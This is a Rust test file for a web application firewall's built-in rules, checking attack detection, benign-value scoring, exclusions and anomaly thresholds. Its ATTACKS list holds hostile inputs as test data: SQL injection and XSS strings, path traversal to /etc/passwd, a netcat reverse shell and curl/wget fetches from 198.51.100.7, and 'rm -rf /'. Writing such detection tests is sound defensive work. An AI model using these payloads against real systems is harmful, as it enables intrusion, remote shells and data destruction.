//! The built-in rule set: each rule fires on attacks of its family, benign values of real API
//! traffic score 0, and exclusions remove rules and values.

use portcullis_waf::{Exclusions, Request, RuleSet, Setup};

fn rules() -> RuleSet {
    RuleSet::builtin(&Setup::deployment(1, 5)).expect("the built-in rules compile")
}

const ATTACKS: [(&str, u32); 16] = [
    ("1' OR '1'='1", 100100),
    ("1 UNION SELECT username, password FROM users--", 100100),
    ("admin'--", 100100),
    ("1; DROP TABLE users", 100100),
    ("<script>alert(1)</script>", 100200),
    ("<img src=x onerror=alert(1)>", 100200),
    ("<a href=\"javascript:alert(1)\">x</a>", 100200),
    ("<svg/onload=alert(1)>", 100200),
    ("../../etc/passwd", 100300),
    ("..\\..\\windows\\win.ini", 100300),
    ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", 100300),
    ("127.0.0.1; cat /etc/passwd", 100400),
    ("x | nc 198.51.100.7 4444 -e /bin/sh", 100400),
    ("$(curl http://198.51.100.7/x.sh)", 100400),
    ("`wget http://198.51.100.7/x`", 100400),
    ("a && rm -rf /", 100400),
];

#[test]
fn attacks_blocked_by_their_rule() {
    let set = rules();
    for (value, rule) in ATTACKS {
        let evaluation = set.evaluate(&Request::with_query_value("q", value));
        let ids = evaluation.logged_ids();
        assert!(ids.contains(&rule), "{value:?}: rules {ids:?}");
        assert!(evaluation.blocked, "{value:?}: not blocked, rules {ids:?}");
        assert!(evaluation.anomaly_score() >= 5, "{value:?}");
    }
}

const BENIGN: [&str; 24] = [
    "It's a \"great\" day, isn't it? Let's meet at Joe's.",
    "O'Brien",
    "O'Reilly & Sons",
    "Dr. Seán O'Connor-Smith",
    "Please select a plan from the menu and update your profile.",
    "I'd like to drop the table reservation for 8 people; thanks!",
    "dogs; cat people say otherwise",
    "Use <b>bold</b> and <i>italic</i> in your comment",
    "SGVsbG8sIHdvcmxkISBUaGlzIGlzIGJhc2U2NCBlbmNvZGVkIHRleHQu",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "alice.o'hara@example.com",
    "https://example.com/search?q=rust+async&page=2#results",
    "{\"nested\": [1, 2, {\"key\": \"value\"}]}",
    "SELECT your favourite colour: red, green or blue",
    "price >= 10 and rating <= 5",
    "fn main() { println!(\"hello\"); }",
    "id",
    "env",
    "cat",
    "ls",
    "Tom & Jerry | The Movie",
    "see the docs in ./guide/intro.md",
    "2024-01-01T10:00:00Z",
    "+1 (555) 010-9999",
];

#[test]
fn benign_values_score_zero() {
    let set = rules();
    for value in BENIGN {
        let evaluation = set.evaluate(&Request::with_query_value("q", value));
        assert_eq!(
            evaluation.logged_ids(),
            Vec::<u32>::new(),
            "{value:?} matched"
        );
        assert!(!evaluation.blocked, "{value:?}");
    }
}

fn form_request(body: &str) -> Request {
    Request {
        method: "POST".to_string(),
        uri: "/login".to_string(),
        protocol: "HTTP/1.1".to_string(),
        headers: vec![
            ("Host".to_string(), b"localhost".to_vec()),
            (
                "Content-Type".to_string(),
                b"application/x-www-form-urlencoded".to_vec(),
            ),
        ],
        body: body.as_bytes().to_vec(),
        remote_addr: "127.0.0.1".to_string(),
    }
}

#[test]
fn exclusions_remove_rules_and_values() {
    let set = rules();
    let request = form_request("user=alice&password=1%27%20OR%20%271%27%3D%271");
    assert!(set.evaluate(&request).blocked);

    let mut by_target = Exclusions::default();
    by_target
        .remove_targets_by_id(100100, 100100, "ARGS:password")
        .unwrap();
    assert!(!set.evaluate_excluding(&request, &by_target).blocked);
    let other = form_request("user=1%27%20OR%20%271%27%3D%271&password=x");
    assert!(set.evaluate_excluding(&other, &by_target).blocked);

    let mut by_tag = Exclusions::default();
    by_tag.remove_tag("attack-sqli");
    assert!(!set.evaluate_excluding(&request, &by_tag).blocked);

    let mut by_id = Exclusions::default();
    by_id.remove_ids(100100, 100199);
    assert!(!set.evaluate_excluding(&request, &by_id).blocked);
}

#[test]
fn invalid_exclusion_target_is_rejected() {
    let mut exclusions = Exclusions::default();
    let error = exclusions
        .remove_targets_by_id(1, 1, "NOT_A_VARIABLE:x")
        .unwrap_err();
    assert!(error.contains("NOT_A_VARIABLE"), "{error}");
    let error = exclusions
        .remove_targets_by_id(1, 1, "!ARGS:x")
        .unwrap_err();
    assert!(error.contains("not a plain target"), "{error}");
}

#[test]
fn threshold_comes_from_setup() {
    let set = RuleSet::builtin(&Setup::deployment(1, 10)).unwrap();
    let one = set.evaluate(&Request::with_query_value("q", "1' OR '1'='1"));
    assert_eq!(one.anomaly_score(), 5);
    assert!(!one.blocked);
    let mut request = Request::with_query_value("q", "1' OR '1'='1");
    request
        .uri
        .push_str("&r=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    let two = set.evaluate(&request);
    assert_eq!(two.anomaly_score(), 10);
    assert!(two.blocked);
}
